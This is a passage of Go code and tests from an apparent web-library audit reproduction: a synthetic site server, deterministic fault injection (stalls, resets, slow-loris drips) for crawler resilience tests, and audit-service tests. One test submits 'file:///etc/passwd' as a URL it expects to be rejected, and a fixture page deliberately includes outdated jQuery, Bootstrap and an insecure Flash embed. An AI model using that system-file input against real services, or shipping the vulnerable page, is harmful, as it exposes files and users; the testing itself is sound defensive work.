	a := &Chaos{Seed: 3, Rate: 0.5}
	b := &Chaos{Seed: 3, Rate: 0.5}
	faulted, total := 0, 0
	for week := 0; week < 10; week++ {
		for i := 0; i < 200; i++ {
			domain := "site" + string(rune('a'+i%26)) + ".example"
			fa, fb := a.FaultFor(week, domain), b.FaultFor(week, domain)
			if fa != fb {
				t.Fatalf("schedule not deterministic at week %d %s: %v vs %v", week, domain, fa, fb)
			}
			total++
			if fa != FaultNone {
				faulted++
			}
		}
	}
	if frac := float64(faulted) / float64(total); frac < 0.35 || frac > 0.65 {
		t.Errorf("fault fraction %.2f far from configured rate 0.5", frac)
	}
	var nilChaos *Chaos
	if nilChaos.FaultFor(0, "x.example") != FaultNone {
		t.Error("nil Chaos must never fault")
	}
	forced := &Chaos{Seed: 3, Rate: 1, Force: FaultReset}
	if f := forced.FaultFor(4, "y.example"); f != FaultReset {
		t.Errorf("Force=reset returned %v", f)
	}
}

// chaosServer serves eco with every response faulted as f.
func chaosServer(t *testing.T, eco *webgen.Ecosystem, f Fault, stall, drip time.Duration) (*httptest.Server, *Chaos) {
	t.Helper()
	s := New(eco)
	s.Chaos = &Chaos{Rate: 1, Force: f, Stall: stall, Drip: drip}
	srv := httptest.NewServer(s)
	t.Cleanup(srv.Close)
	return srv, s.Chaos
}

func TestFaultStallDefeatsClientTimeout(t *testing.T) {
	eco := webgen.New(webgen.Config{Domains: 40, Seed: 4})
	i := healthySite(t, eco)
	srv, chaos := chaosServer(t, eco, FaultStall, time.Second, 0)
	client := &http.Client{Timeout: 100 * time.Millisecond}
	resp, err := client.Get(srv.URL + PageURL(0, eco.Sites[i].Domain.Name))
	if err == nil {
		resp.Body.Close()
		t.Fatal("stalled response should exceed the client timeout")
	}
	if chaos.Injected()[FaultStall] == 0 {
		t.Error("stall went uncounted")
	}
}

// A stall shorter than the client's patience is a slow host, not a dead
// one: the page still arrives intact.
func TestFaultStallEventuallyServes(t *testing.T) {
	eco := webgen.New(webgen.Config{Domains: 40, Seed: 4})
	i := healthySite(t, eco)
	srv, _ := chaosServer(t, eco, FaultStall, 50*time.Millisecond, 0)
	client := &http.Client{Timeout: 5 * time.Second}
	resp, err := client.Get(srv.URL + PageURL(0, eco.Sites[i].Domain.Name))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("patient client should get the page: status %d err %v", resp.StatusCode, err)
	}
	html, _ := eco.PageHTML(i, 0)
	if string(body) != html {
		t.Error("stalled-then-served body differs from the real page")
	}
}

func TestFaultResetKillsBodyMidRead(t *testing.T) {
	eco := webgen.New(webgen.Config{Domains: 40, Seed: 4})
	i := healthySite(t, eco)
	srv, chaos := chaosServer(t, eco, FaultReset, 0, 0)
	resp, err := http.Get(srv.URL + PageURL(0, eco.Sites[i].Domain.Name))
	if err == nil {
		_, err = io.ReadAll(resp.Body)
		resp.Body.Close()
	}
	if err == nil {
		t.Fatal("mid-body reset should surface as a read error")
	}
	if chaos.Injected()[FaultReset] == 0 {
		t.Error("reset went uncounted")
	}
}

func TestFaultTruncateIsUnexpectedEOF(t *testing.T) {
	eco := webgen.New(webgen.Config{Domains: 40, Seed: 4})
	i := healthySite(t, eco)
	srv, _ := chaosServer(t, eco, FaultTruncate, 0, 0)
	resp, err := http.Get(srv.URL + PageURL(0, eco.Sites[i].Domain.Name))
	if err != nil {
		t.Fatalf("truncate should deliver headers: %v", err)
	}
	body, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	if err == nil {
		t.Fatal("reading a truncated body should fail")
	}
	html, _ := eco.PageHTML(i, 0)
	if len(body) >= len(html) {
		t.Errorf("read %d of %d bytes; body was not truncated", len(body), len(html))
	}
}

func TestFaultSlowLorisOutdripsClientTimeout(t *testing.T) {
	eco := webgen.New(webgen.Config{Domains: 40, Seed: 4})
	i := healthySite(t, eco)
	srv, chaos := chaosServer(t, eco, FaultSlowLoris, 2*time.Second, 200*time.Millisecond)
	client := &http.Client{Timeout: 120 * time.Millisecond}
	resp, err := client.Get(srv.URL + PageURL(0, eco.Sites[i].Domain.Name))
	if err == nil {
		_, err = io.ReadAll(resp.Body)
		resp.Body.Close()
	}
	if err == nil {
		t.Fatal("slow-loris drip should defeat a 120ms client")
	}
	if chaos.Injected()[FaultSlowLoris] == 0 {
		t.Error("slow-loris went uncounted")
	}
}

// Chaos only touches alive responses: dead domains abort on their own and
// must not be double-counted as injections.
func TestChaosSkipsDeadDomains(t *testing.T) {
	eco := webgen.New(webgen.Config{Domains: 300, Seed: 4})
	dead := -1
	for i := range eco.Sites {
		if eco.Sites[i].DeadFromWeek == 0 {
			dead = i
			break
		}
	}
	if dead < 0 {
		t.Skip("no domain dead at week 0 in this seed")
	}
	srv, chaos := chaosServer(t, eco, FaultStall, 50*time.Millisecond, 0)
	_, err := http.Get(srv.URL + PageURL(0, eco.Sites[dead].Domain.Name))
	if err == nil {
		t.Fatal("dead domain should abort the connection")
	}
	if got := chaos.InjectedTotal(); got != 0 {
		t.Errorf("dead domain counted %d injections", got)
	}
}

// failingHijacker claims to support hijacking but errors when asked — the
// path that used to leave clients hanging with no response at all.
type failingHijacker struct{ *httptest.ResponseRecorder }

func (f *failingHijacker) Hijack() (net.Conn, *bufio.ReadWriter, error) {
	return nil, nil, errors.New("connection already consumed")
}

func TestAbortFallsBackTo502(t *testing.T) {
	plain := httptest.NewRecorder()
	abort(plain) // no Hijacker at all
	if plain.Code != http.StatusBadGateway {
		t.Errorf("non-hijackable abort wrote %d, want 502", plain.Code)
	}
	failing := &failingHijacker{httptest.NewRecorder()}
	abort(failing)
	if failing.Code != http.StatusBadGateway {
		t.Errorf("hijack-failure abort wrote %d, want 502 (was: nothing, hanging the client)", failing.Code)
	}
}
