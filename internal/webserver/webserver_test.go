package webserver

import (
	"io"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"clientres/internal/webgen"
)

func TestParsePath(t *testing.T) {
	cases := []struct {
		path   string
		week   int
		domain string
		rest   string
		ok     bool
	}{
		{"/w/0/news1.com/", 0, "news1.com", "", true},
		{"/w/200/shop2.org", 200, "shop2.org", "", true},
		{"/w/3/news1.com/assets/bundle.abc.js", 3, "news1.com", "/assets/bundle.abc.js", true},
		{"/w/3/news1.com/js/app.js", 3, "news1.com", "/js/app.js", true},
		{"/w/x/news1.com/", 0, "", "", false},
		{"/nope", 0, "", "", false},
		{"/w/3", 0, "", "", false},
	}
	for _, c := range cases {
		week, domain, rest, ok := parsePath(c.path)
		if ok != c.ok || (ok && (week != c.week || domain != c.domain || rest != c.rest)) {
			t.Errorf("parsePath(%q) = (%d, %q, %q, %v), want (%d, %q, %q, %v)",
				c.path, week, domain, rest, ok, c.week, c.domain, c.rest, c.ok)
		}
	}
}

func TestServesPages(t *testing.T) {
	eco := webgen.New(webgen.Config{Domains: 120, Seed: 2})
	srv := httptest.NewServer(New(eco))
	defer srv.Close()

	served := 0
	for i := range eco.Sites {
		tr := eco.Truth(i, 10)
		if !tr.Accessible {
			continue
		}
		resp, err := http.Get(srv.URL + PageURL(10, eco.Sites[i].Domain.Name))
		if err != nil {
			t.Fatalf("get: %v", err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != 200 {
			t.Fatalf("status = %d", resp.StatusCode)
		}
		if ct := resp.Header.Get("Content-Type"); !strings.Contains(ct, "text/html") {
			t.Errorf("content type = %q", ct)
		}
		if !strings.Contains(string(body), eco.Sites[i].Domain.Name) {
			t.Errorf("body does not mention its domain")
		}
		served++
		if served > 20 {
			break
		}
	}
	if served == 0 {
		t.Fatal("no pages served")
	}
}

func TestUnknownDomainAborts(t *testing.T) {
	eco := webgen.New(webgen.Config{Domains: 10, Seed: 2})
	srv := httptest.NewServer(New(eco))
	defer srv.Close()
	_, err := http.Get(srv.URL + PageURL(0, "no-such-domain.example"))
	if err == nil {
		t.Error("unknown domain should abort the connection")
	}
}

func TestWeekOutOfRange(t *testing.T) {
	eco := webgen.New(webgen.Config{Domains: 10, Seed: 2})
	srv := httptest.NewServer(New(eco))
	defer srv.Close()
	resp, err := http.Get(srv.URL + PageURL(9999, eco.Sites[0].Domain.Name))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusBadRequest {
		t.Errorf("status = %d, want 400", resp.StatusCode)
	}
}

func TestBadPath404(t *testing.T) {
	eco := webgen.New(webgen.Config{Domains: 10, Seed: 2})
	srv := httptest.NewServer(New(eco))
	defer srv.Close()
	resp, err := http.Get(srv.URL + "/bogus")
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusNotFound {
		t.Errorf("status = %d, want 404", resp.StatusCode)
	}
}
