// Package webserver serves the synthetic web ecosystem over real HTTP.
//
// The paper's crawler fetched live landing pages with net/http; this server
// is the other end of that wire for the reproduction. Each generated domain
// is addressable at /w/{week}/{domain}/ so a single listener can serve every
// site at every snapshot week. Dead domains abort the TCP connection (the
// closest stand-in for NXDOMAIN/refused), flaky weeks answer with their
// 4xx/5xx status, and anti-bot sites return the paper's observed
// HTTP-200-but-"Not allowed" page.
package webserver

import (
	"fmt"
	"io"
	"net"
	"net/http"
	"strconv"
	"strings"
	"time"

	"clientres/internal/webgen"
)

// Server serves one ecosystem.
type Server struct {
	eco *webgen.Ecosystem
	// index maps domain name to site index.
	index map[string]int
	// Latency, when non-zero, delays every response — useful for crawler
	// timeout tests.
	Latency time.Duration
	// Chaos, when non-nil, injects deterministic per-(domain, week) faults
	// into otherwise-alive responses (see Chaos). Set before serving.
	Chaos *Chaos
}

// New builds a Server for an ecosystem.
func New(eco *webgen.Ecosystem) *Server {
	idx := make(map[string]int, len(eco.Sites))
	for i, s := range eco.Sites {
		idx[s.Domain.Name] = i
	}
	return &Server{eco: eco, index: idx}
}

// PageURL returns the request path serving a domain at a snapshot week.
func PageURL(week int, domain string) string {
	return fmt.Sprintf("/w/%d/%s/", week, domain)
}

// AssetURL returns the request path serving a same-site asset of a domain
// at a snapshot week. src is the root-relative src attribute as rendered
// on the page ("/assets/bundle.abc.js").
func AssetURL(week int, domain, src string) string {
	if !strings.HasPrefix(src, "/") {
		src = "/" + src
	}
	return fmt.Sprintf("/w/%d/%s%s", week, domain, src)
}

// ServeHTTP implements http.Handler.
func (s *Server) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if s.Latency > 0 {
		time.Sleep(s.Latency)
	}
	week, domain, rest, ok := parsePath(r.URL.Path)
	if !ok {
		http.NotFound(w, r)
		return
	}
	i, ok := s.index[domain]
	if !ok {
		// Unknown domain: behave like a dead host.
		abort(w)
		return
	}
	if week < 0 || week >= s.eco.Cfg.Weeks {
		http.Error(w, "week out of range", http.StatusBadRequest)
		return
	}
	if rest != "" {
		// Same-site asset (script body). Chaos faults stay page-only: the
		// fault drill targets the landing-page fetch path, and the chaos
		// schedule is keyed per (domain, week), not per resource.
		s.serveAsset(w, r, i, week, rest)
		return
	}
	html, status := s.eco.PageHTML(i, week)
	if status == 0 {
		abort(w)
		return
	}
	if f := s.Chaos.FaultFor(week, domain); f != FaultNone {
		s.serveFault(w, r, f, html, status)
		return
	}
	writePage(w, html, status)
}

// serveAsset answers a same-site script request from the generator's
// asset resolver. Dead weeks abort like the page does; anything the page
// does not reference is a plain 404.
func (s *Server) serveAsset(w http.ResponseWriter, r *http.Request, i, week int, rest string) {
	_, status := s.eco.PageHTML(i, week)
	if status == 0 {
		abort(w)
		return
	}
	body, ok := s.eco.AssetJS(i, week, rest)
	if !ok {
		http.NotFound(w, r)
		return
	}
	w.Header().Set("Content-Type", "application/javascript; charset=utf-8")
	w.WriteHeader(http.StatusOK)
	_, _ = io.WriteString(w, body)
}

func writePage(w http.ResponseWriter, html string, status int) {
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	w.WriteHeader(status)
	_, _ = io.WriteString(w, html)
}

// abort drops the connection without an HTTP response, simulating a dead
// domain (refused connection / NXDOMAIN). When the connection cannot be
// hijacked it answers a bare 502 instead — never leave the request
// unanswered, or the client hangs until its own timeout.
func abort(w http.ResponseWriter) {
	if !hijackClose(w, true) {
		w.WriteHeader(http.StatusBadGateway)
	}
}

// hijackClose takes over the connection and closes it — with a TCP RST
// (SetLinger(0)) when reset is true, so client reads fail immediately —
// reporting false when hijacking is unavailable or fails.
func hijackClose(w http.ResponseWriter, reset bool) bool {
	hj, ok := w.(http.Hijacker)
	if !ok {
		return false
	}
	conn, _, err := hj.Hijack()
	if err != nil {
		return false
	}
	if reset {
		if tcp, ok := conn.(*net.TCPConn); ok {
			_ = tcp.SetLinger(0)
		}
	}
	_ = conn.Close()
	return true
}

// parsePath splits "/w/{week}/{domain}[/asset...]" into its parts; rest is
// the root-relative asset path ("" for the landing page itself).
func parsePath(path string) (week int, domain, rest string, ok bool) {
	parts := strings.SplitN(strings.TrimPrefix(path, "/"), "/", 4)
	if len(parts) < 3 || parts[0] != "w" {
		return 0, "", "", false
	}
	week, err := strconv.Atoi(parts[1])
	if err != nil {
		return 0, "", "", false
	}
	if len(parts) == 4 && strings.Trim(parts[3], "/") != "" {
		rest = "/" + strings.TrimSuffix(parts[3], "/")
	}
	return week, parts[2], rest, true
}
