package webserver

// Chaos mode: injectable per-(domain, week) faults, so the crawler's
// resilience layer can be proven against the open Web's failure modes —
// stalled responses, mid-body resets, truncated bodies, slow-loris drips —
// on a deterministic schedule a test can precompute and then reconcile
// against the crawler's counters.

import (
	"encoding/binary"
	"hash/fnv"
	"io"
	"net/http"
	"strconv"
	"sync/atomic"
	"time"
)

// Fault is one injectable failure mode.
type Fault uint8

// The fault catalog. FaultNone means the response is served normally.
const (
	FaultNone Fault = iota
	// FaultStall holds the response until the client gives up (or Stall
	// elapses, after which the page is served — a slow host, not a dead
	// one).
	FaultStall
	// FaultReset serves half the body, then closes the connection with a
	// TCP RST.
	FaultReset
	// FaultTruncate advertises the full Content-Length, serves half, and
	// closes cleanly — the client sees an unexpected EOF.
	FaultTruncate
	// FaultSlowLoris drips the body a few dozen bytes per interval,
	// giving up mid-body once Stall has elapsed.
	FaultSlowLoris

	numFaults
)

// String names the fault for logs and test failure messages.
func (f Fault) String() string {
	switch f {
	case FaultNone:
		return "none"
	case FaultStall:
		return "stall"
	case FaultReset:
		return "reset"
	case FaultTruncate:
		return "truncate"
	case FaultSlowLoris:
		return "slowloris"
	}
	return "fault(" + strconv.Itoa(int(f)) + ")"
}

// Chaos configures fault injection on a Server. The schedule is a pure
// function of (Seed, week, domain): the same configuration faults the same
// pairs with the same faults on every run, and FaultFor lets tests and
// operators precompute the schedule the crawler will encounter. Only
// responses that would otherwise carry an HTTP status are faulted — dead
// domains already abort on their own.
type Chaos struct {
	// Seed selects the schedule.
	Seed int64
	// Rate is the fraction of (domain, week) pairs faulted (0 disables).
	Rate float64
	// Force, when not FaultNone, makes every faulted pair use this fault —
	// for tests that need one specific failure mode.
	Force Fault
	// Stall bounds how long FaultStall holds a response and how long
	// FaultSlowLoris keeps dripping (default 2s).
	Stall time.Duration
	// Drip is the pause between slow-loris chunks (default 25ms).
	Drip time.Duration

	injected [numFaults]atomic.Int64
}

func (c *Chaos) stall() time.Duration {
	if c.Stall <= 0 {
		return 2 * time.Second
	}
	return c.Stall
}

func (c *Chaos) drip() time.Duration {
	if c.Drip <= 0 {
		return 25 * time.Millisecond
	}
	return c.Drip
}

// FaultFor returns the fault scheduled for a (week, domain) pair. Safe on
// a nil receiver (no fault).
func (c *Chaos) FaultFor(week int, domain string) Fault {
	if c == nil || c.Rate <= 0 {
		return FaultNone
	}
	h := fnv.New64a()
	var buf [16]byte
	binary.LittleEndian.PutUint64(buf[0:8], uint64(c.Seed))
	binary.LittleEndian.PutUint64(buf[8:16], uint64(week))
	_, _ = h.Write(buf[:])
	_, _ = h.Write([]byte(domain))
	u := h.Sum64()
	if float64(u%1_000_000)/1_000_000 >= c.Rate {
		return FaultNone
	}
	if c.Force != FaultNone {
		return c.Force
	}
	return Fault(1 + (u>>32)%uint64(numFaults-1))
}

// Injected returns how many responses have been served under each fault
// since the server started.
func (c *Chaos) Injected() map[Fault]int64 {
	out := make(map[Fault]int64, numFaults-1)
	for f := FaultStall; f < numFaults; f++ {
		out[f] = c.injected[f].Load()
	}
	return out
}

// InjectedTotal sums Injected across fault types.
func (c *Chaos) InjectedTotal() int64 {
	var total int64
	for f := FaultStall; f < numFaults; f++ {
		total += c.injected[f].Load()
	}
	return total
}

// serveFault delivers a response under fault f.
func (s *Server) serveFault(w http.ResponseWriter, r *http.Request, f Fault, html string, status int) {
	s.Chaos.injected[f].Add(1)
	switch f {
	case FaultStall:
		select {
		case <-r.Context().Done():
			return // the client gave up first
		case <-time.After(s.Chaos.stall()):
		}
		writePage(w, html, status)
	case FaultReset:
		writePartial(w, html, status)
		if !hijackClose(w, true) {
			// No hijacking available: the short write below already
			// guarantees the client cannot complete the body.
			return
		}
	case FaultTruncate:
		// Returning after the short write makes the server close the
		// connection (declared length unmet): an unexpected EOF client-side.
		writePartial(w, html, status)
	case FaultSlowLoris:
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		w.Header().Set("Content-Length", strconv.Itoa(len(html)))
		w.WriteHeader(status)
		deadline := time.Now().Add(s.Chaos.stall())
		const chunk = 64
		for off := 0; off < len(html); off += chunk {
			// Drip-feed from the first byte of the body: every chunk costs
			// at least one Drip, so a client timeout below Drip×chunks can
			// never finish the read.
			select {
			case <-r.Context().Done():
				return
			case <-time.After(s.Chaos.drip()):
			}
			if time.Now().After(deadline) {
				return // give up mid-body: truncation
			}
			end := off + chunk
			if end > len(html) {
				end = len(html)
			}
			if _, err := io.WriteString(w, html[off:end]); err != nil {
				return
			}
			flush(w)
		}
	}
}

// writePartial advertises the full body length but delivers only half.
func writePartial(w http.ResponseWriter, html string, status int) {
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	w.Header().Set("Content-Length", strconv.Itoa(len(html)))
	w.WriteHeader(status)
	_, _ = io.WriteString(w, html[:len(html)/2])
	flush(w)
}

func flush(w http.ResponseWriter) {
	if f, ok := w.(http.Flusher); ok {
		f.Flush()
	}
}
