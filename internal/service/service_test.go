package service

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"testing"
	"time"
)

// vulnerablePage exhibits the paper's headline problems: an outdated
// jQuery, an old Bootstrap, an uncovered CDN include, and an insecure
// Flash embed.
const vulnerablePage = `<!DOCTYPE html><html><head>
<script src="https://code.jquery.com/jquery-1.12.4.min.js"></script>
<script src="https://maxcdn.bootstrapcdn.com/bootstrap/3.3.7/js/bootstrap.min.js"></script>
</head><body><embed src="/x.swf" allowscriptaccess="always"></body></html>`

// fixedNow keeps PatchAvailableDays (and so cached bodies) deterministic.
var fixedNow = time.Date(2026, time.January, 2, 12, 0, 0, 0, time.UTC)

func newTestServer(t *testing.T, cfg Config) *Server {
	t.Helper()
	if cfg.Now == nil {
		cfg.Now = func() time.Time { return fixedNow }
	}
	s := New(cfg)
	t.Cleanup(s.Close)
	return s
}

func postAudit(s *Server, body string, contentType string) *httptest.ResponseRecorder {
	req := httptest.NewRequest(http.MethodPost, "/v1/audit?host=example.com", strings.NewReader(body))
	if contentType != "" {
		req.Header.Set("Content-Type", contentType)
	}
	rec := httptest.NewRecorder()
	s.ServeHTTP(rec, req)
	return rec
}

func TestAuditRawHTML(t *testing.T) {
	s := newTestServer(t, Config{})
	rec := postAudit(s, vulnerablePage, "")
	if rec.Code != http.StatusOK {
		t.Fatalf("status = %d, body %s", rec.Code, rec.Body)
	}
	if rec.Header().Get("X-Request-Id") == "" {
		t.Error("missing X-Request-Id")
	}
	if got := rec.Header().Get("X-Cache"); got != "miss" {
		t.Errorf("X-Cache = %q, want miss", got)
	}
	var resp AuditResponse
	if err := json.Unmarshal(rec.Body.Bytes(), &resp); err != nil {
		t.Fatalf("response not JSON: %v", err)
	}
	if resp.Host != "example.com" {
		t.Errorf("host = %q", resp.Host)
	}
	if len(resp.Libraries) != 2 {
		t.Fatalf("libraries = %+v", resp.Libraries)
	}
	byAdv := map[string]AuditFinding{}
	for _, f := range resp.Findings {
		byAdv[f.Advisory] = f
	}
	if _, ok := byAdv["CVE-2020-11023"]; !ok {
		t.Errorf("missing jQuery CVE-2020-11023: %+v", resp.Findings)
	}
	if _, ok := byAdv["CVE-2019-8331"]; !ok {
		t.Errorf("missing Bootstrap CVE-2019-8331: %+v", resp.Findings)
	}
	// CVE-2019-11358 was patched in jQuery 3.4.0 (2019-04-10): by the
	// fixed audit clock the fix has been out 2459 days.
	if f := byAdv["CVE-2019-11358"]; f.FixedIn != "3.4.0" || f.PatchAvailableDays != 2459 {
		t.Errorf("CVE-2019-11358 patch info wrong: %+v", f)
	}
	if !resp.VulnerableTVV || !resp.VulnerableCVE {
		t.Errorf("vulnerability verdicts wrong: %+v", resp)
	}
	if resp.MissingSRI != 2 {
		t.Errorf("MissingSRI = %d, want 2", resp.MissingSRI)
	}
	if !resp.UsesFlash || !resp.InsecureFlash {
		t.Error("flash flags wrong")
	}
}

func TestAuditCacheHitIsByteIdentical(t *testing.T) {
	s := newTestServer(t, Config{})
	first := postAudit(s, vulnerablePage, "")
	second := postAudit(s, vulnerablePage, "")
	if first.Code != 200 || second.Code != 200 {
		t.Fatalf("statuses = %d, %d", first.Code, second.Code)
	}
	if got := second.Header().Get("X-Cache"); got != "hit" {
		t.Errorf("second X-Cache = %q, want hit", got)
	}
	if !bytes.Equal(first.Body.Bytes(), second.Body.Bytes()) {
		t.Error("cached response differs from cold response")
	}
	if s.met.cacheHits.Load() != 1 || s.met.cacheMisses.Load() != 1 {
		t.Errorf("cache counters hits=%d misses=%d, want 1/1",
			s.met.cacheHits.Load(), s.met.cacheMisses.Load())
	}
}

// TestAuditHostChangesVerdict pins that the cache keys on (content, host):
// the same bytes served from the including host flip inclusions internal.
func TestAuditHostChangesVerdict(t *testing.T) {
	s := newTestServer(t, Config{})
	page := `<script src="https://code.jquery.com/jquery-1.12.4.min.js"></script>`
	req1 := postAudit(s, page, "")
	req := httptest.NewRequest(http.MethodPost, "/v1/audit?host=code.jquery.com", strings.NewReader(page))
	rec := httptest.NewRecorder()
	s.ServeHTTP(rec, req)
	if rec.Header().Get("X-Cache") != "miss" {
		t.Fatal("different host must not hit the other host's cache entry")
	}
	var a, b AuditResponse
	if err := json.Unmarshal(req1.Body.Bytes(), &a); err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &b); err != nil {
		t.Fatal(err)
	}
	if a.MissingSRI != 1 || b.MissingSRI != 0 {
		t.Errorf("MissingSRI = %d/%d, want 1/0 (internal inclusion needs no SRI)", a.MissingSRI, b.MissingSRI)
	}
}

func TestAuditJSONInline(t *testing.T) {
	s := newTestServer(t, Config{})
	body, _ := json.Marshal(auditRequest{HTML: vulnerablePage, Host: "example.org"})
	rec := postAudit(s, string(body), "application/json")
	if rec.Code != http.StatusOK {
		t.Fatalf("status = %d, body %s", rec.Code, rec.Body)
	}
	var resp AuditResponse
	if err := json.Unmarshal(rec.Body.Bytes(), &resp); err != nil {
		t.Fatal(err)
	}
	if resp.Host != "example.org" || len(resp.Findings) == 0 {
		t.Errorf("JSON inline audit wrong: %+v", resp)
	}
}

func TestAuditJSONURL(t *testing.T) {
	fetched := ""
	s := newTestServer(t, Config{
		Fetch: func(_ context.Context, url string) (int, string, error) {
			fetched = url
			return 200, vulnerablePage, nil
		},
	})
	body := `{"url": "http://upstream.test/"}`
	rec := postAudit(s, body, "application/json")
	if rec.Code != http.StatusOK {
		t.Fatalf("status = %d, body %s", rec.Code, rec.Body)
	}
	if fetched != "http://upstream.test/" {
		t.Errorf("fetched %q", fetched)
	}
	var resp AuditResponse
	if err := json.Unmarshal(rec.Body.Bytes(), &resp); err != nil {
		t.Fatal(err)
	}
	if resp.Host != "upstream.test" {
		t.Errorf("host = %q, want upstream.test", resp.Host)
	}
	if s.met.fetches.Load() != 1 || s.met.fetchFailures.Load() != 0 {
		t.Error("fetch counters wrong")
	}
}

func TestAuditJSONURLErrors(t *testing.T) {
	cases := []struct {
		name string
		cfg  Config
		body string
		want int
	}{
		{"no fetcher", Config{}, `{"url": "http://x.test/"}`, http.StatusNotImplemented},
		{"bad scheme", Config{Fetch: fetchOK}, `{"url": "file:///etc/passwd"}`, http.StatusBadRequest},
		{"no host", Config{Fetch: fetchOK}, `{"url": "http://"}`, http.StatusBadRequest},
		{"fetch error", Config{Fetch: fetchErr}, `{"url": "http://x.test/"}`, http.StatusBadGateway},
		{"upstream 404", Config{Fetch: fetch404}, `{"url": "http://x.test/"}`, http.StatusBadGateway},
		{"invalid json", Config{}, `{"url": `, http.StatusBadRequest},
		{"empty json", Config{}, `{}`, http.StatusBadRequest},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			s := newTestServer(t, tc.cfg)
			rec := postAudit(s, tc.body, "application/json")
			if rec.Code != tc.want {
				t.Errorf("status = %d, want %d (body %s)", rec.Code, tc.want, rec.Body)
			}
		})
	}
}

func fetchOK(_ context.Context, _ string) (int, string, error)  { return 200, "<html></html>", nil }
func fetchErr(_ context.Context, _ string) (int, string, error) { return 0, "", io.ErrUnexpectedEOF }
func fetch404(_ context.Context, _ string) (int, string, error) { return 404, "not found", nil }

func TestAuditBodyTooLarge(t *testing.T) {
	s := newTestServer(t, Config{MaxBodyBytes: 128})
	rec := postAudit(s, strings.Repeat("a", 256), "")
	if rec.Code != http.StatusRequestEntityTooLarge {
		t.Fatalf("status = %d, want 413", rec.Code)
	}
}

func TestQueueFullSheds503(t *testing.T) {
	release := make(chan struct{})
	started := make(chan struct{}, 8)
	cfg := Config{Workers: 1, QueueDepth: 1, CacheEntries: -1}
	cfg.testHookAuditStart = func() { started <- struct{}{}; <-release }
	s := newTestServer(t, cfg)

	type result struct{ code int }
	results := make(chan result, 2)
	for i := 0; i < 2; i++ {
		go func(i int) {
			rec := postAudit(s, fmt.Sprintf("<html>%d</html>", i), "")
			results <- result{rec.Code}
		}(i)
	}
	<-started // worker busy; the second request sits in the queue
	// Wait for the queue to actually hold the second job.
	deadline := time.Now().Add(5 * time.Second)
	for len(s.jobs) != 1 {
		if time.Now().After(deadline) {
			t.Fatal("second audit never queued")
		}
		time.Sleep(time.Millisecond)
	}

	rec := postAudit(s, "<html>overflow</html>", "")
	if rec.Code != http.StatusServiceUnavailable {
		t.Fatalf("overflow status = %d, want 503", rec.Code)
	}
	if ra := rec.Header().Get("Retry-After"); ra == "" {
		t.Error("503 must carry Retry-After")
	}
	if s.met.shedQueue.Load() != 1 {
		t.Errorf("shedQueue = %d, want 1", s.met.shedQueue.Load())
	}
	close(release)
	for i := 0; i < 2; i++ {
		if r := <-results; r.code != http.StatusOK {
			t.Errorf("in-flight audit status = %d, want 200", r.code)
		}
	}
}

func TestRateLimit429(t *testing.T) {
	now := fixedNow
	cfg := Config{RatePerSec: 1, Burst: 2, Now: func() time.Time { return now }}
	s := newTestServer(t, cfg)
	for i := 0; i < 2; i++ {
		if rec := postAudit(s, "<html></html>", ""); rec.Code != http.StatusOK {
			t.Fatalf("request %d status = %d", i, rec.Code)
		}
	}
	rec := postAudit(s, "<html></html>", "")
	if rec.Code != http.StatusTooManyRequests {
		t.Fatalf("status = %d, want 429", rec.Code)
	}
	ra, err := strconv.Atoi(rec.Header().Get("Retry-After"))
	if err != nil || ra < 1 {
		t.Errorf("Retry-After = %q, want ≥ 1s", rec.Header().Get("Retry-After"))
	}
	if s.met.shedRate.Load() != 1 {
		t.Errorf("shedRate = %d, want 1", s.met.shedRate.Load())
	}

	// A different client has its own bucket.
	req := httptest.NewRequest(http.MethodPost, "/v1/audit", strings.NewReader("<html></html>"))
	req.Header.Set("X-Forwarded-For", "203.0.113.9, 10.0.0.1")
	rec2 := httptest.NewRecorder()
	s.ServeHTTP(rec2, req)
	if rec2.Code != http.StatusOK {
		t.Errorf("other client status = %d, want 200", rec2.Code)
	}

	// Time restores tokens.
	now = now.Add(3 * time.Second)
	if rec := postAudit(s, "<html></html>", ""); rec.Code != http.StatusOK {
		t.Errorf("post-refill status = %d, want 200", rec.Code)
	}
}

func TestLibrariesEndpoint(t *testing.T) {
	s := newTestServer(t, Config{})
	get := func() *httptest.ResponseRecorder {
		rec := httptest.NewRecorder()
		s.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/v1/libraries", nil))
		return rec
	}
	rec := get()
	if rec.Code != http.StatusOK {
		t.Fatalf("status = %d", rec.Code)
	}
	var resp struct {
		Libraries []libraryEntry `json:"libraries"`
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &resp); err != nil {
		t.Fatal(err)
	}
	if len(resp.Libraries) != 15 {
		t.Fatalf("libraries = %d, want the top-15 table", len(resp.Libraries))
	}
	var jq *libraryEntry
	for i := range resp.Libraries {
		if resp.Libraries[i].Slug == "jquery" {
			jq = &resp.Libraries[i]
		}
	}
	if jq == nil || jq.Releases == 0 || jq.Advisories == 0 || jq.Latest == "" {
		t.Fatalf("jquery entry wrong: %+v", jq)
	}
	if !bytes.Equal(rec.Body.Bytes(), get().Body.Bytes()) {
		t.Error("catalog responses must be byte-stable")
	}
}

func TestVulnsEndpoint(t *testing.T) {
	s := newTestServer(t, Config{})
	rec := httptest.NewRecorder()
	s.ServeHTTP(rec, httptest.NewRequest(http.MethodGet, "/v1/vulns/jquery", nil))
	if rec.Code != http.StatusOK {
		t.Fatalf("status = %d", rec.Code)
	}
	var resp struct {
		Library    string      `json:"library"`
		Advisories []vulnEntry `json:"advisories"`
	}
